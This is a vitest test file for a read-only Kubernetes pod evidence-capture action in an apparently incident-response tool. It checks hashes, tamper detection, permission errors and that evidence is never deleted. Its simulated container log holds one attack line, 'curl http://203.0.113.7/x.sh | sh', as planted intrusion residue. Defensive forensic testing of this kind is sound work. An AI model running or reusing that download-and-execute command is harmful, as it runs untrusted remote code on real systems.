// k8s.capturePod with the real client-node against the Kubernetes sim over HTTPS: the files it
// writes are exactly what the API server sent, their hashes are the journal's evidence records,
// the previous container's log is captured (and its absence tolerated), and the read-back
// notices a file changed after capture.

import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { POD, kubeHarness, recordsOf, runAction, type KubeHarness } from './kube-action-harness.js';

let h: KubeHarness;
afterEach(async () => {
  await h?.close();
});

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

describe('k8s.capturePod', () => {
  it('reports each file; stopped after the spec and first log it keeps them and names what it did not capture', async () => {
    h = await kubeHarness();
    const id = await h.fx.runner.plan('k8s.capturePod', POD);
    await h.fx.runner.confirm(id, h.fx.store.getState().state.actions.get(id)!.planned.paramsHash);
    const abort = new AbortController();
    const seen: string[] = [];
    await h.fx.runner.execute(id, {
      signal: abort.signal,
      progress: (p) => {
        seen.push(`${p.done} ${p.unit} ${p.detail}`);
        if (p.done === 2) abort.abort();
      },
    });
    expect(seen).toEqual(['1 files pod.json', '2 files logs/app.log']);
    expect(h.fx.runner.status(id)).toBe('verified');
    const ok = recordsOf(h.fx, id, 'action.succeeded')[0]!;
    expect(ok.message).toMatch(/^STOPPED by the responder, INCOMPLETE: captured 2 files/);
    expect(ok.message).toContain(
      'not captured: log of app (previous container); log of proxy (current container); log of proxy (previous container); events of namespace shop',
    );
    // Nothing asked after the stop: no events list, no further logs.
    expect(h.sim.recorder.calls.filter((c) => c.op === 'get pods/log' || c.op.includes('events'))).toHaveLength(1);
  });

  it('writes spec, every log incl. the previous container, and the events; hashes match the evidence records', async () => {
    h = await kubeHarness();
    const { id, status } = await runAction(h, 'k8s.capturePod', POD);
    expect(status).toBe('verified');
    const dir = join(h.env.evidenceDir, 'INC-2026-042', 'k8s', 'shop', 'web-7d9f-abcde', id);
    const ev = h.fx
      .records()
      .filter((r) => r.type === 'evidence.recorded')
      .map((r) => r.data as Record<string, any>);
    expect(ev.map((e) => e.path.slice(dir.length + 1))).toEqual([
      'pod.json',
      'logs/app.log',
      'logs/app.previous.log',
      'logs/proxy.log',
      'events.json',
    ]);
    for (const e of ev) {
      const bytes = readFileSync(e.path);
      expect(e.sha256).toBe(sha(bytes));
      expect(e.size).toBe(bytes.length);
      expect(e).toMatchObject({ actionId: id, collector: 'tester', toolVersion: 'firebreak 0.0.0-test', target: POD });
    }
    expect(new Set(ev.map((e) => e.evidenceId)).size).toBe(5);
    expect(readFileSync(join(dir, 'logs/app.previous.log'), 'utf8')).toBe(
      'curl http://203.0.113.7/x.sh | sh\nkilled\n',
    );
    expect(readFileSync(join(dir, 'logs/app.log'), 'utf8')).toContain('GET /admin 200 from 203.0.113.7');
    const pod = JSON.parse(readFileSync(join(dir, 'pod.json'), 'utf8'));
    expect(pod.metadata.labels.app).toBe('web');
    expect(pod.status.containerStatuses[0].lastState.terminated.exitCode).toBe(137);
    // The namespace's events, and only that namespace's.
    const events = JSON.parse(readFileSync(join(dir, 'events.json'), 'utf8'));
    expect(events.items.map((e: { reason: string }) => e.reason).sort()).toEqual(['BackOff', 'Pulled']);
    expect(ev.find((e) => e.path.endsWith('app.previous.log'))!.source).toBe(
      'kubernetes fake: pod shop/web-7d9f-abcde logs container=app previous=true',
    );
    const ok = recordsOf(h.fx, id, 'action.succeeded')[0]!;
    expect(ok.message).toContain(
      'not available: proxy (previous container): previous terminated container "proxy" in pod "web-7d9f-abcde" not found',
    );
    // Read-only: the exact GETs, nothing else.
    expect(h.sim.mutations()).toEqual([]);
    expect(
      h.sim.recorder.calls
        .filter((c) => c.op === 'get pods/log')
        .map((c) => [c.query.container, c.query.previous ?? '']),
    ).toEqual([
      ['app', ''],
      ['app', 'true'],
      ['proxy', ''],
      ['proxy', 'true'],
    ]);
  });

  it("stores the pod object byte for byte as the API server sent it (not client-node's re-serialisation)", async () => {
    h = await kubeHarness();
    const { id } = await runAction(h, 'k8s.capturePod', POD);
    const pod = h.fx
      .records()
      .find((r) => r.type === 'evidence.recorded' && (r.data as { path: string }).path.endsWith('/pod.json'))!.data as {
      path: string;
    };
    // The sim answers JSON.stringify of its stored object; a typed V1Pod round trip would differ
    // (timestamps become Date objects and re-serialise with milliseconds).
    expect(readFileSync(pod.path, 'utf8')).toBe(JSON.stringify(h.sim.get('pods', 'shop', 'web-7d9f-abcde')));
    expect(recordsOf(h.fx, id, 'action.verified')[0]!.ok).toBe(true);
  });

  it('dry run is a labelled read-only simulation that writes nothing', async () => {
    h = await kubeHarness();
    const id = await h.fx.runner.plan('k8s.capturePod', POD);
    const r = await h.fx.runner.dryRun(id);
    expect(r).toMatchObject({ kind: 'simulated', ok: true });
    expect(r.message).toContain('logs readable for app (+ previous), proxy');
    expect(h.sim.mutations()).toEqual([]);
    expect(h.fx.records().some((x) => x.type === 'evidence.recorded')).toBe(false);
  });

  it('verify fails when an evidence file is altered after capture', async () => {
    h = await kubeHarness();
    const { id } = await runAction(h, 'k8s.capturePod', POD);
    const ev = h.fx.records().find((r) => r.type === 'evidence.recorded')!.data as { path: string };
    writeFileSync(ev.path, '{"tampered":true}');
    expect(await h.fx.runner.reverify(id)).toBe('verify-failed');
    expect(recordsOf(h.fx, id, 'action.verified').at(-1)!.detail).toMatch(/pod\.json: content changed/);
  });

  it('403 on the logs is action.failed with the reason and the permission hint, and no evidence recorded', async () => {
    h = await kubeHarness();
    h.sim.recorder.fail({
      op: 'get pods/log',
      status: 403,
      code: 'Forbidden',
      message:
        'pods "web-7d9f-abcde" is forbidden: User "responder" cannot get resource "pods/log" in API group "" in the namespace "shop"',
    });
    const { id, status } = await runAction(h, 'k8s.capturePod', POD);
    expect(status).toBe('failed');
    const f = recordsOf(h.fx, id, 'action.failed')[0]!;
    expect(f.message).toContain(
      'HTTP 403 Forbidden: pods "web-7d9f-abcde" is forbidden: User "responder" cannot get resource "pods/log"',
    );
    expect(f.hint).toMatch(/lack permission/);
    expect(h.fx.records().some((x) => x.type === 'evidence.recorded')).toBe(false);
  });

  it('cannot be undone: evidence is never deleted', async () => {
    h = await kubeHarness();
    const { id } = await runAction(h, 'k8s.capturePod', POD);
    await expect(h.fx.runner.planUndo(id)).rejects.toThrow(/evidence is never deleted/);
  });

  it('a second capture goes to its own folder and leaves the first intact', async () => {
    h = await kubeHarness();
    const first = await runAction(h, 'k8s.capturePod', POD);
    const second = await runAction(h, 'k8s.capturePod', POD);
    expect(second.status).toBe('verified');
    expect(await h.fx.runner.reverify(first.id)).toBe('verified');
    const paths = h.fx
      .records()
      .filter((r) => r.type === 'evidence.recorded')
      .map((r) => (r.data as { path: string }).path);
    expect(new Set(paths).size).toBe(10);
  });
});
